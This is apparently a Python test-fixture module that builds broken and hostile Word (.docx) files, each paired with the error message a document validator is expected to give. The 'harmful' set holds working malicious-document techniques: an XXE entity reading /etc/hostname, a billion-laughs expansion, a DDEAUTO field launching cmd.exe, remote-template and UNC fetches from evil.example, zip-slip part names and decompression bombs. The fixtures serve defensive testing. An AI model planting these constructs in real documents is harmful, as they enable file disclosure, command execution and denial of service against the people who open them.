"""Files that people send in place of a Word file, and files made to do harm; each small enough to stand in a test."""

import io
import zipfile

from tests.review.corruptions import DOCUMENT, Parts, pack

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
DEPTH = 100_000
ENTITY = '<!DOCTYPE w:document [<!ENTITY secret SYSTEM "file:///etc/hostname">]>'
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'


def zipped(parts: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def with_document(sound: Parts, change) -> bytes:
    """Give the sound file with its main part changed."""
    return pack({**sound, DOCUMENT: change(sound[DOCUMENT].decode()).encode()})


def not_word(sound: Parts) -> dict[str, tuple[bytes, str]]:
    """Give files that are no Word files, each with the message that tells it."""
    whole = pack(sound)
    types = sound["[Content_Types].xml"].decode()
    return {
        "nothing": (b"", "the file is empty [docx-not-word]"),
        "an old .doc": (OLE + bytes(600), "this is an old .doc file [docx-not-word]"),
        "a locked .docx": (
            OLE + bytes(600) + "EncryptedPackage".encode("utf-16-le") + bytes(600),
            "the file is locked with a password [docx-locked]",
        ),
        "an .odt": (
            zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<a/>"}),
            "this is an OpenDocument text (.odt) [docx-not-word]",
        ),
        "a workbook": (
            pack({**sound, "[Content_Types].xml": types.replace("wordprocessingml.document.main", "spreadsheetml.sheet.main").encode()}),
            "this is a workbook [docx-not-word]",
        ),
        "rtf": (b"{\\rtf1 text}", "this is a Rich Text file [docx-not-word]"),
        "pdf": (b"%PDF-1.7\n", "this is a PDF file [docx-not-word]"),
        "a web page": (b"\xef\xbb\xbf <!DOCTYPE html><p>", "this is a web page [docx-not-word]"),
        "words": (b"Dear Sir", "this is no Word file: it is not even a zip file [docx-not-word]"),
        "some zip": (zipped({"a.txt": b"a"}), "this is a zip file without the list of parts that every Word file has [docx-not-word]"),
        "a zip cut off": (whole[: len(whole) // 2], "the zip file is cut off or damaged [docx-damaged]"),
        "only a beginning": (b"PK\x03\x04 but no zip", "the zip file is cut off or damaged [docx-damaged]"),
        "a locked zip": (locked(whole), "its parts are locked with a password [docx-locked]"),
        "Strict Open XML": (
            with_document(sound, lambda xml: xml.replace("http://schemas.openxmlformats.org/wordprocessingml/2006/main", "http://purl.oclc.org/ooxml/wordprocessingml/main")),
            "saved as Strict Open XML, which is not read here [docx-not-word]",
        ),
        "no main part": (pack({name: part for name, part in sound.items() if name != DOCUMENT}), "this is no Word file: its main part is missing, or cannot be read [docx-not-word]"),
        "a bomb": (zipped({**sound, "word/media/a.png": bytes(200_000_001)}), "it unpacks to more than 200 MB [docx-too-large]"),
        "a bomb of tags": (pack({**sound, "word/extra.xml": b"<a>" + b"<b/>" * 2_000_000 + b"</a>"}), "its XML is larger than any agreement can be [docx-too-large]"),
        "too many parts": (zipped({f"a{n}": b"" for n in range(20_001)}, zipfile.ZIP_STORED), "it holds more than 20000 parts [docx-too-large]"),
    }  # fmt: skip


def harmful(sound: Parts) -> dict[str, tuple[bytes, str]]:
    """Give Word files with something dangerous or broken in them, each with what must be told."""
    types = sound["[Content_Types].xml"].decode()
    relations = sound["word/_rels/document.xml.rels"].decode()

    def related(kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
        kind = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
        added = f'<Relationship Id="rIdX" Type="{kind}" Target="{target}"{mode}/></Relationships>'
        return pack({**sound, "word/_rels/document.xml.rels": relations.replace("</Relationships>", added).encode()})

    def field(words: str) -> bytes:
        simple = f'<w:fldSimple w:instr="{words}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
        return with_document(sound, lambda xml: xml.replace("</w:p>", simple, 1))

    def extra(xml: bytes) -> bytes:
        return pack({**sound, "word/extra.xml": xml})

    macros = types.replace("document.main+xml", "document.macroEnabled.main+xml").replace(
        "</Types>",
        '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    macros = macros.replace(
        "openxmlformats-officedocument.wordprocessingml.document.macroEnabled.main", "ms-word.document.macroEnabledMain"
    )
    declares = "the part declares a document type, by which text can be fetched or blown up [docx-outside]"
    fetched = "is fetched from {} when the file opens [docx-outside]".format
    return {
        "an entity from outside": (extra((HEAD + ENTITY + "<a>&secret;</a>").encode()), declares),
        "the same in UTF-16": (extra(("<?xml version='1.0' encoding='UTF-16'?>" + ENTITY + "<a>&secret;</a>").encode("utf-16")), declares),
        "a billion laughs": (extra(f'<!DOCTYPE a [<!ENTITY l0 "ha">{LAUGHS}]><a>&l11;</a>'.encode()), declares),
        "an entity in the main part": (with_document(sound, lambda xml: xml.replace(HEAD, HEAD + ENTITY)), declares),
        "100,000 deep": (extra(b"<a>" * DEPTH + b"</a>" * DEPTH), "word/extra.xml: error: the part cannot be read: it is nested deeper than any text can be [docx-damaged]"),
        "macros": (pack({**sound, "[Content_Types].xml": macros.encode(), "word/vbaProject.bin": b"x"}), "word/vbaProject.bin: error: the file carries a program (macros or controls) [docx-macros]"),
        "a field that starts a program": (field("DDEAUTO c:\\\\windows\\\\cmd.exe /k"), "a field starts another program [docx-macros]"),
        "a template on the web": (related("attachedTemplate", "https://evil.example/t.dotm"), "the template " + fetched("https://evil.example/t.dotm")),
        "a picture on a server": (related("image", "\\\\evil.example\\share\\a.png"), "the picture " + fetched("\\\\evil.example\\share\\a.png")),
        "a field that fetches": (field("INCLUDEPICTURE &quot;http://evil.example/a.png&quot;"), "a field fetches http://evil.example/a.png when the file opens [docx-outside]"),
        "a path on a computer": (related("hyperlink", "file:///C:/Users/eva/secret.docx"), "the link leads to a file on somebody's computer: file:///C:/Users/eva/secret.docx [docx-local-path]"),
        "a name that climbs": (pack({**sound, "../../evil.xml": b"<a/>"}), "../../evil.xml: error: the name of the part leads out of the file [docx-damaged]"),
        "a name from the root": (pack({**sound, "/etc/evil.xml": b"<a/>"}), "/etc/evil.xml: error: the name of the part leads out of the file [docx-damaged]"),
        "a drive": (pack({**sound, "C:/evil.xml": b"<a/>"}), "C:/evil.xml: error: the name of the part leads out of the file [docx-damaged]"),
        "backslashes": (pack({**sound, "word\\evil.xml": b"<a/>"}), "the name of the part is written with backslashes, which Word does not find [docx-damaged]"),
        "another way of packing": (packed_otherwise(sound), "word/extra.xml: error: the part is damaged and cannot be unpacked [docx-damaged]"),
        "a damaged part": (damaged(sound), "word/styles.xml: error: the part is damaged and cannot be unpacked [docx-damaged]"),
        "no XML": (extra(b"\x00\xff not XML"), "word/extra.xml: error: the part cannot be read:"),
        "an encoding that nobody knows": (extra(b"<?xml version='1.0' encoding='x-martian'?><a/>"), "word/extra.xml: error: the part cannot be read:"),
    }  # fmt: skip


def locked(content: bytes) -> bytes:
    """Give a zip file whose entries say that they are locked."""
    changed = bytearray(content)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(mark)
        while at >= 0:
            changed[at + offset] |= 1
            at = content.find(mark, at + 4)
    return bytes(changed)


def packed_otherwise(sound: Parts) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in sound.items():
            archive.writestr(name, content)
        archive.writestr("word/extra.xml", b"<a/>" * 10, zipfile.ZIP_LZMA)
    return buffer.getvalue()


def damaged(sound: Parts) -> bytes:
    content = bytearray(pack(sound))
    with zipfile.ZipFile(io.BytesIO(bytes(content))) as archive:
        entry = archive.getinfo("word/styles.xml")
    for at in range(entry.header_offset + 60, entry.header_offset + 90):
        content[at] ^= 0x55
    return bytes(content)
